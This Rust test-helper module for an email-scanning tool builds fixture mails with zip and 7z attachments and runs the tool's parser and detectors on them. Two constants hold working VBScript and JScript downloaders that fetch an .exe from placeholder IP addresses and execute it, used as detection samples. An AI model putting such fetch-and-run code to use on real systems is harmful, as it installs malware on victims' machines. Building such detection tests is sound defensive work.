//! Shared helpers: fixture mails with attachments built at test time (no
//! live malware anywhere), the full scan (parse, artifacts, detectors).
#![allow(dead_code)]

use std::io::{Cursor, Write};
use std::path::PathBuf;

use base64::Engine as _;
use mozu_mail::{Limits, parse_eml_parts, source};
use mozu_model::{MessageRecord, SourceFormat};
use zip::unstable::write::FileOptionsExt;
use zip::write::SimpleFileOptions;

/// The repository root.
pub fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// `../shared` beside the repository.
pub fn shared() -> PathBuf {
    repo().join("../shared")
}

/// A Nemty-style downloader (seed 002): fetch an .exe from an IP literal and run it.
pub const DOWNLOADER_VBS: &str = "Dim x: Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\n\
x.Open \"GET\", \"http://203.0.113.10/a.exe\", False: x.Send\r\n\
Set s = CreateObject(\"ADODB.Stream\"): s.Type = 1: s.Open: s.Write x.responseBody\r\n\
s.SaveToFile \"%TEMP%\\\\a.exe\", 2\r\n\
CreateObject(\"WScript.Shell\").Run \"%TEMP%\\\\a.exe\", 0\r\n";

/// A JScript downloader (seeds 003, 004).
pub const DOWNLOADER_JS: &str = "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET','http://198.51.100.4/p.exe',0); x.send(); new ActiveXObject('WScript.Shell').Run('p.exe');";

/// A zip of entries, optionally ZipCrypto-encrypted.
pub fn zip(entries: &[(&str, &[u8])], password: Option<&str>) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in entries {
        let opts = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
        let opts = match password {
            Some(pw) => opts.with_deprecated_encryption(pw.as_bytes()).unwrap(),
            None => opts,
        };
        w.start_file(*name, opts).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// A 7z archive of one entry.
pub fn sevenz(name: &str, data: &[u8]) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    let mut w = sevenz_rust2::ArchiveWriter::new(&mut out).unwrap();
    w.push_archive_entry(sevenz_rust2::ArchiveEntry::new_file(name), Some(data))
        .unwrap();
    w.finish().unwrap();
    out.into_inner()
}

/// Turns a single-part authored mail into multipart/mixed with the given
/// attachments (name, content type, bytes) after its body.
pub fn with_attachments(eml: &str, attachments: &[(&str, &str, Vec<u8>)]) -> Vec<u8> {
    let eml = eml.replace("\r\n", "\n");
    let (head, body) = eml.split_once("\n\n").unwrap();
    let mut headers: Vec<&str> = Vec::new();
    let mut part_headers: Vec<&str> = Vec::new();
    for line in head.lines() {
        if line.to_ascii_lowercase().starts_with("content-") {
            part_headers.push(line);
        } else if !line.to_ascii_lowercase().starts_with("mime-version") {
            headers.push(line);
        }
    }
    let mut out = headers.join("\r\n");
    out.push_str("\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"FIXTURE\"\r\n\r\n--FIXTURE\r\n");
    out.push_str(&part_headers.join("\r\n"));
    out.push_str("\r\n\r\n");
    out.push_str(&body.replace('\n', "\r\n"));
    for (name, ctype, data) in attachments {
        let b64 = base64::engine::general_purpose::STANDARD.encode(data);
        let lines: Vec<&str> = b64
            .as_bytes()
            .chunks(76)
            .map(|c| std::str::from_utf8(c).unwrap())
            .collect();
        out.push_str(&format!(
            "\r\n--FIXTURE\r\nContent-Type: {ctype}\r\nContent-Disposition: attachment; filename*=UTF-8''{}\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n",
            pct(name),
            lines.join("\r\n")
        ));
    }
    out.push_str("--FIXTURE--\r\n");
    out.into_bytes()
}

fn pct(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"._-".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// Parse, analyse attachments, run the detectors.
pub fn scan(raw: &[u8], name: &str, detectors: &mozu_detect::Detectors) -> MessageRecord {
    let parsed = parse_eml_parts(raw, source(name, SourceFormat::Eml, None), &Limits::default());
    let mut rec = mozu_artifact::analyse_message(parsed, &[], &mozu_artifact::Options::default(), None);
    detectors.apply(&mut rec);
    rec
}
